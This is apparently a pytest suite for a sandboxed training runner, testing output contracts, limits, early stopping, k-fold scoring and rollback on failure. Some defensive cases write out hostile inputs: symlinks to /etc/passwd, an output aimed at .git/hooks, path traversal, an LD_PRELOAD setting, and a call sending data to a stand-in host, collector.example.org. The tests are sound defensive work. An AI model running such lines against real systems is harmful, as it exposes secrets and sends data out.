"""Trainings under the contract: what works, and every way in which one can fail."""

from __future__ import annotations

import json
import os
import tempfile
import textwrap
import venv
from dataclasses import replace
from pathlib import Path

import pytest

from shipworthy.errors import EnvironmentFailure, EvidenceError, UsageError
from shipworthy.evaluation import FoldJudge
from shipworthy.evidence.digest import Manifest
from shipworthy.tools.sandbox import Limits, Sandbox
from shipworthy.tools.staging import Staging
from shipworthy.training import EarlyStopping, KFold, TrainResult, TrainSpec, train

GOOD = """
    import json, os
    rows = open(os.environ["SHIPWORTHY_INPUT_DATA"]).read().splitlines()[1:]
    with open(os.path.join(os.environ["SHIPWORTHY_OUTPUT_MODEL"], "model.json"), "w") as file:
        json.dump({"rows": len(rows), "seed": os.environ["SHIPWORTHY_SEED"]}, file)
    print("trained on", len(rows), "rows")
"""
SAY = """
    import json, os, signal, sys, time
    def say(step, **metrics):
        with open(os.environ["SHIPWORTHY_PROGRESS"], "a") as file:
            file.write(json.dumps({"step": step, "metrics": metrics}) + chr(10))
"""


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    try:
        return Sandbox.open("no-network")
    except EnvironmentFailure as failure:
        pytest.skip(str(failure))


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / "data").mkdir(parents=True)
    rows = [f"{number},{number % 7},{'ham' if number % 3 else 'spam'}" for number in range(30)]
    (root / "data" / "train.csv").write_text("\n".join(["id,x,label", *rows]) + "\n")
    write(root, GOOD)
    return root


def write(root: Path, code: str) -> None:
    parts = [textwrap.dedent(part) for part in code.split("#--\n")]
    (root / "train.py").write_text("\n".join(parts))


def spec(root: Path, **changes: object) -> TrainSpec:
    given: dict[str, object] = {
        "inputs": {"data": "data/train.csv"},
        "outputs": {"model": "model/"},
        "limits": Limits(wall_seconds=30, memory_mb=1024, grace_seconds=2),
        "seed": 7,
    }
    return TrainSpec(("python", "train.py"), root, **(given | changes))  # type: ignore[arg-type]


def failed(result: TrainResult, *words: str) -> TrainResult:
    assert not result.ok
    assert all(word in result.reason for word in words), result.reason
    assert not result.outputs
    return result


@pytest.mark.parametrize("options", [{}, {"bubblewrap": None}, {"policy": "none"}])
def test_a_training_and_its_record(project: Path, tmp_path: Path, options: dict[str, None]) -> None:
    try:
        sandbox = Sandbox.open(**options)  # type: ignore[arg-type]
    except EnvironmentFailure as failure:
        pytest.skip(str(failure))
    lines: list[str] = []
    log = tmp_path / "train.log"
    result = train(spec(project), sandbox=sandbox, on_line=lambda _, text: lines.append(text), log=log)
    assert result.ok, result.reason
    assert json.loads((project / "model" / "model.json").read_text()) == {"rows": 30, "seed": "7"}
    assert lines == ["trained on 30 rows"]
    assert log.read_text() == "stdout: trained on 30 rows\n"
    assert set(result.code) == {"train.py"}
    assert result.inputs_seen == ("data",)
    assert result.outputs["model"]["model.json"].startswith("sha256:")
    assert "numpy" in result.packages
    assert result.seconds > 0
    assert result.peak_rss_mb > 0
    assert json.loads(json.dumps(result.as_dict()))["sandbox"]["policy"] == sandbox.report.policy
    assert [path.name for path in project.iterdir() if path.name.startswith(".")] == []


def test_the_same_seed_gives_the_same_digests(project: Path, sandbox: Sandbox) -> None:
    first = train(spec(project), sandbox=sandbox)
    again = train(spec(project), sandbox=sandbox)
    assert first.outputs == again.outputs
    assert first.inputs == again.inputs


def test_undeclared_code_is_not_there(project: Path, sandbox: Sandbox) -> None:
    (project / "lib").mkdir()
    (project / "lib" / "helper.py").write_text("value = 1\n")
    (project / "secret.env").write_text("TOKEN=1\n")
    write(project, "from lib.helper import value\nimport os\nassert not os.path.exists('secret.env')\n#--\n" + GOOD)
    result = failed(train(spec(project), sandbox=sandbox), "No module named 'lib'")
    assert "declare" in result.remedy
    assert train(spec(project, code=("lib/**",)), sandbox=sandbox).ok


def test_outputs_by_their_relative_path(project: Path, sandbox: Sandbox) -> None:
    write(project, "open('model/a.bin', 'w').write('a'); open('metrics.json', 'w').write('{}')")
    result = train(spec(project, outputs={"model": "model/", "metrics": "metrics.json"}), sandbox=sandbox)
    assert result.ok, result.reason
    assert (project / "metrics.json").read_text() == "{}"
    assert not (project / "metrics.json").is_symlink()


FAILURES = {
    "a missing output": ("print('nothing')", "empty folder"),
    "an undeclared output": (
        GOOD + "    open(os.environ['SHIPWORTHY_OUTPUT_MODEL'] + '/../extra.bin', 'w')",
        "extra.bin, which is not declared",
    ),
    "a link to a secret": (
        "import os; os.symlink('/etc/passwd', os.environ['SHIPWORTHY_OUTPUT_MODEL'] + '/model.bin')",
        "is a link, not a regular file",
    ),
    "a pipe": ("import os; os.mkfifo(os.environ['SHIPWORTHY_OUTPUT_MODEL'] + '/model.bin')", "special file"),
    "folders without end": (
        GOOD + "    os.chdir('model')\n    for _ in range(3000):\n        os.mkdir('d')\n        os.chdir('d')",
        "folders more than 200 deep",
    ),
    "a closed folder": (
        GOOD + "    os.mkdir('model/closed')\n    os.chmod('model/closed', 0)",
        "closed cannot be read",
    ),
    "a hard link": (GOOD + "    os.link('model/model.json', 'model/again')", "hard link"),
    "two names that differ in case": (GOOD + "    open('model/MODEL.json', 'w').write('1')", "differ only in case"),
    "an exit status": ("import sys; sys.exit('no data')", "exit status 1: no data"),
    "a crash": ("import os; os.abort()", "signal 6"),
    "a write to the input": ("open('data/train.csv', 'a').write('x')", "exit status 1"),
    "no JSON in the progress": (
        GOOD + "    open(os.environ['SHIPWORTHY_PROGRESS'], 'w').write('epoch 1\\n')",
        "no JSON",
    ),
    "a diverged training": (SAY + "#--\n" + GOOD + "    say(3, loss=float('nan'))", "loss"),
    "an endless progress line": (
        GOOD + "    open(os.environ['SHIPWORTHY_PROGRESS'], 'w').write('x' * 200000)",
        "longer than 65536 bytes",
    ),
    "a progress file that is a link": (
        GOOD + "    os.symlink('/dev/zero', os.environ['SHIPWORTHY_PROGRESS'])",
        "progress",
    ),
}


@pytest.mark.parametrize("name", FAILURES)
def test_a_failure_says_why_and_keeps_what_was_there(
    project: Path,
    sandbox: Sandbox,
    name: str,
    tmp_path_factory: pytest.TempPathFactory,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path_factory.mktemp("temporary")))
    (project / "model").mkdir()
    (project / "model" / "old.bin").write_text("the last good model")
    code, reason = FAILURES[name]
    if name == "a closed folder" and os.geteuid() == 0:
        pytest.skip("nothing is closed to root")
    write(project, code)
    before = (project / "data" / "train.csv").read_bytes()
    failed(train(spec(project), sandbox=sandbox), reason)
    assert [path.name for path in (project / "model").iterdir()] == ["old.bin"]
    assert (project / "data" / "train.csv").read_bytes() == before
    assert not (project / "extra.bin").exists()
    assert not list(Path(tempfile.gettempdir()).iterdir()), "what the command left was not removed"


@pytest.mark.parametrize("name", ["a\nb", "nul.bin", "weights.", "e\u0301.bin", "sub/AUX"])
def test_names_that_signing_refuses_are_refused_after_the_training(project: Path, sandbox: Sandbox, name: str) -> None:
    write(project, f"from pathlib import Path; p = Path('model', {name!r}); p.parent.mkdir(exist_ok=True); p.touch()")
    result = train(spec(project), sandbox=sandbox)
    (project / "model" / name).parent.mkdir(parents=True)
    (project / "model" / name).touch()
    with pytest.raises(EvidenceError) as refused:
        Manifest.of(project / "model")
    failed(result, refused.value.message)


def test_success_replaces_what_was_there(project: Path, sandbox: Sandbox) -> None:
    (project / "model").mkdir()
    (project / "model" / "old.bin").write_text("old")
    assert train(spec(project), sandbox=sandbox).ok
    assert [path.name for path in (project / "model").iterdir()] == ["model.json"]


def test_code_that_calls_out_is_named(project: Path, sandbox: Sandbox) -> None:
    write(project, "import urllib.request; urllib.request.urlopen('http://collector.example.org/?d=1', timeout=2)")
    result = failed(train(spec(project), sandbox=sandbox), "exit status 1")
    assert [attempt.target for attempt in result.network_attempts] == ["collector.example.org:80"]
    assert "collector.example.org" in result.remedy


def test_limits_are_reasons(project: Path, sandbox: Sandbox) -> None:
    write(project, "import time; time.sleep(60)")
    result = failed(train(spec(project, limits=Limits(wall_seconds=0.5)), sandbox=sandbox), "longer than 0.5 s")
    assert "wall-seconds" in result.remedy


def test_an_input_that_changes_meanwhile(project: Path, sandbox: Sandbox) -> None:
    def meddle(*_: str) -> None:
        with (project / "data" / "train.csv").open("a") as file:
            file.write("99,1,ham\n")

    failed(train(spec(project), sandbox=sandbox, on_line=meddle), '"data" changed')


def test_early_stopping_by_us(project: Path, sandbox: Sandbox) -> None:
    code = """
    def stop(*_):
        open(os.environ["SHIPWORTHY_OUTPUT_MODEL"] + "/best.bin", "w").write("best")
        sys.exit(0)
    signal.signal(signal.SIGTERM, stop)
    for step in range(1, 1000):
        say(step, val_loss=1 / step if step < 4 else 0.5)
        time.sleep(0.02)
    """
    write(project, SAY + "#--\n" + code)
    result = train(spec(project, early_stopping=EarlyStopping("val_loss", patience=5)), sandbox=sandbox)
    assert result.ok, result.reason
    assert result.early_stopping is not None
    assert (result.early_stopping.stopped_early, result.early_stopping.by) == (True, "shipworthy")
    assert result.early_stopping.best_step == 3
    assert result.early_stopping.best == pytest.approx(1 / 3)
    assert (result.early_stopping.last_step or 0) < 999
    assert (project / "model" / "best.bin").exists()


def test_early_stopping_by_the_script(project: Path, sandbox: Sandbox) -> None:
    write(project, SAY + "#--\n" + GOOD + "    [say(step, acc=value) for step, value in enumerate((0.5, 0.9, 0.8))]")
    rule = EarlyStopping("acc", mode="max", patience=10)
    result = train(spec(project, early_stopping=rule), sandbox=sandbox)
    assert result.ok, result.reason
    assert result.early_stopping is not None
    assert (result.early_stopping.by, result.early_stopping.best, result.early_stopping.last_step) == ("script", 0.9, 2)
    assert [step for step, _ in result.progress] == [0, 1, 2]


def test_early_stopping_without_the_metric_is_no_early_stopping(project: Path, sandbox: Sandbox) -> None:
    failed(
        train(spec(project, early_stopping=EarlyStopping("val_loss")), sandbox=sandbox),
        'no progress line holds "val_loss"',
    )


FOLDS = """
    import csv, json, os
    fold = os.environ.get("SHIPWORTHY_FOLD")
    rows = list(csv.DictReader(open("data/train.csv")))
    if fold:
        indices = json.load(open(os.environ["SHIPWORTHY_FOLD_INDICES"]))
        assert not set(indices["train"]) & set(indices["validation"])
        assert len(indices["train"]) + len(indices["validation"]) == len(rows)
        with open(os.environ["SHIPWORTHY_OUTPUT_PREDICTIONS"], "w") as file:
            file.write("index,prediction\\n")
            for row in indices["validation"][SKIP:]:
                file.write(f"{row},{rows[row]['label'] if row != 4 else 'spam'}\\n")
    else:
        open(os.environ["SHIPWORTHY_OUTPUT_MODEL"] + "/final.bin", "w").write("final")
"""


def test_k_folds_are_measured_by_us(project: Path, sandbox: Sandbox) -> None:
    write(project, FOLDS.replace("SKIP", "0"))
    kfold = KFold(3, "data", "label")
    result = train(spec(project, kfold=kfold), sandbox=sandbox, judge=FoldJudge(positive="spam"))
    assert result.ok, result.reason
    assert [fold.validation_rows for fold in result.folds] == [10, 10, 10]
    assert sum(metric.value < 1 for fold in result.folds for metric in fold.metrics if metric.name == "accuracy") == 1
    spread = {metric.name: metric for metric in result.metrics}
    assert spread["kfold_accuracy_mean"].value == pytest.approx((1 + 1 + 0.9) / 3)
    assert spread["kfold_accuracy_std"].value == pytest.approx(0.0577, abs=1e-3)
    assert [path.name for path in (project / "model").iterdir()] == ["final.bin"]


def test_a_fold_that_leaves_rows_out_fails(project: Path, sandbox: Sandbox) -> None:
    write(project, FOLDS.replace("SKIP", "2"))
    result = train(spec(project, kfold=KFold(3, "data", "label")), sandbox=sandbox, judge=FoldJudge())
    failed(result, "fold 1", "2 of 10 rows are not predicted")


def test_a_dataset_without_the_label_cannot_be_split(project: Path, sandbox: Sandbox) -> None:
    result = train(spec(project, kfold=KFold(3, "data", "class")), sandbox=sandbox, judge=FoldJudge())
    failed(result, "cannot be split", 'no column "class"')


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"inputs": {"data": "/etc/passwd"}}, "no path inside"),
        ({"inputs": {"data": "../other.csv"}}, "no path inside"),
        ({"inputs": {"data": "data/none.csv"}}, "not there"),
        ({"inputs": {"a-b": "data/train.csv", "a_b": "train.py"}}, "share"),
        ({"outputs": {"model": "data/"}}, "overlap"),
        ({"outputs": {"model": ".git/hooks"}}, "belongs to others"),
        ({"outputs": {}}, "no output"),
        ({"code": ("nothing/**",)}, "no file"),
        ({"env": {"LD_PRELOAD": "x"}}, "cannot be set"),
        ({"kfold": KFold(1, "data")}, "2 folds"),
        ({"kfold": KFold(3, "other")}, "none of the inputs"),
        ({"exclude": ("data/train.csv",)}, "held back"),
        ({"early_stopping": EarlyStopping(patience=0)}, "patience"),
    ],
)
def test_a_wrong_contract_is_refused(project: Path, sandbox: Sandbox, changes: dict[str, object], words: str) -> None:
    with pytest.raises(UsageError, match=words):
        train(spec(project, **changes), sandbox=sandbox, judge=FoldJudge())


def test_an_input_that_links_out_of_the_project_is_refused(project: Path, sandbox: Sandbox) -> None:
    (project / "data" / "shadow").symlink_to("/etc/passwd")
    with pytest.raises(UsageError, match="leads out"):
        train(spec(project, inputs={"data": "data/shadow"}), sandbox=sandbox)
    with pytest.raises(UsageError, match="link"):
        train(spec(project, inputs={"data": "data/"}), sandbox=sandbox)


def test_outputs_come_back_when_publishing_breaks(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (project / "a").mkdir()
    (project / "a" / "x").write_text("old")
    with Staging(project, code=(), inputs={}, outputs={"a": "a/", "b": "b.bin"}, copy_inputs=False) as staging:
        (staging.outputs / "a" / "x").write_text("new")
        (staging.outputs / "b.bin").write_text("new")
        collected = staging.collect()
        rename, calls = os.rename, []

        def breaks(source: Path, target: Path) -> None:
            calls.append(target)
            if Path(target).name == "b.bin":
                raise OSError(28, "No space left on device")
            rename(source, target)

        monkeypatch.setattr(os, "rename", breaks)
        with pytest.raises(EnvironmentFailure, match="No space left"):
            staging.publish(collected)
    assert (project / "a" / "x").read_text() == "old"
    assert not (project / "b.bin").exists()
    assert sorted(path.name for path in project.iterdir()) == ["a", "data", "train.py"]


def test_a_copy_of_what_is_held_back_is_found(project: Path, sandbox: Sandbox) -> None:
    (project / "holdout.csv").write_text("id,x,label\n1,1,ham\n")
    (project / "data" / "copy.csv").write_bytes((project / "holdout.csv").read_bytes())
    with pytest.raises(UsageError, match="held back"):
        train(spec(project, inputs={"data": "data/"}, exclude=("holdout.csv",)), sandbox=sandbox)
    result = train(spec(project, code=("**",), exclude=("holdout.csv",)), sandbox=sandbox)
    assert result.ok, result.reason
    assert set(result.code) == {"train.py"}


def test_the_python_of_another_environment_can_train(project: Path, tmp_path: Path, sandbox: Sandbox) -> None:
    """Named by its absolute path, it comes with what is installed beside it, and the record tells its packages."""
    venv.create(tmp_path / "other", symlinks=True)
    packages = next((tmp_path / "other" / "lib").glob("python*")) / "site-packages"
    (packages / "onlyhere.py").write_text("")
    (packages / "onlyhere-1.5.dist-info").mkdir()
    (packages / "onlyhere-1.5.dist-info" / "METADATA").write_text(
        "Metadata-Version: 2.1\nName: onlyhere\nVersion: 1.5\n"
    )
    write(project, "import onlyhere\n" + textwrap.dedent(GOOD))
    python = str(tmp_path / "other" / "bin" / "python")
    result = train(replace(spec(project), command=(python, "train.py")))
    assert result.ok, result.reason
    assert result.packages["onlyhere"] == "1.5"
